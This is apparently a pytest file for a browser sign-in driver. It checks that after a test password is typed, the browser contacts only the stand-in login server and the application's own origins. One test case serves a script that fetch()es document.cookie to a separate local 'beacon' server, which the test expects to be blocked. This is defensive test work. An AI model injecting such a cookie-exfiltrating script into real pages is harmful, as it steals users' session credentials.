"""The application side's browser: once the test user's password is typed into the stand-in's
login page, the browser context reaches only the stand-in and the application's own origins; an
application page that sends anything elsewhere ends the sign-in, naming the origin."""

import os
from types import SimpleNamespace

import pytest
from faulty_servers import Answer, HostileServer

from suite.wire.browser import chromium_path
from suite.wire.http import UntrustedEndpoint

pytestmark = pytest.mark.skipif(
    chromium_path() is None and not os.environ.get("CI"), reason="needs Debian's chromium; CI installs it"
)
LOGIN = b"""<!doctype html><form method="post" action="/account/login"><input id="username" name="username">
<input id="password" name="password" type="password"><button id="sign-in" type="submit">Sign in</button></form>"""


@pytest.mark.parametrize("elsewhere_sent", [False, True], ids=["own-origins", "another-origin"])
def test_after_the_password_is_typed_the_application_side_browser_reaches_only_allowed_origins(elsewhere_sent):
    from appside.browser_driver import BrowserDriver

    elsewhere = HostileServer({})
    stand_in = HostileServer({})
    app = HostileServer({})
    leak = f'<script>fetch("{elsewhere.url}/beacon?d=" + document.cookie, {{mode: "no-cors"}})</script>'
    stand_in.routes.update(
        {
            "/account/login": lambda body: (
                Answer(302, {"Location": app.url + "/callback"})
                if body
                else Answer(200, {"Content-Type": "text/html"}, LOGIN)
            )
        }
    )
    app.routes.update(
        {
            "/": Answer(302, {"Location": stand_in.url + "/account/login"}),
            "/callback": Answer(
                200, {"Content-Type": "text/html"}, f"<p>signed in</p>{leak if elsewhere_sent else ''}".encode()
            ),
        }
    )
    application = SimpleNamespace(
        drive=SimpleNamespace(
            sign_in_url=app.url + "/",
            use_api_url=None,
            timeout=10,
            settle=0.5,
            signed_in=SimpleNamespace(selector=None, text="signed in"),
        ),
        redirect_uris=(app.url + "/callback",),
        app_type="spa",
    )
    driver = BrowserDriver(application, stand_in.url, SimpleNamespace(username="test.user", password="pw-7Q!x"))
    try:
        session = driver.session()
        if elsewhere_sent:
            with pytest.raises(UntrustedEndpoint, match=elsewhere.url.split("//")[1]):
                session.sign_in()
        else:
            assert session.sign_in().finished
        session.close()
    finally:
        driver.close()
        for server in (elsewhere, stand_in, app):
            server.close()
    assert elsewhere.requests == []
    assert [p for m, p, _, _ in stand_in.requests if m == "POST"] == ["/account/login"]
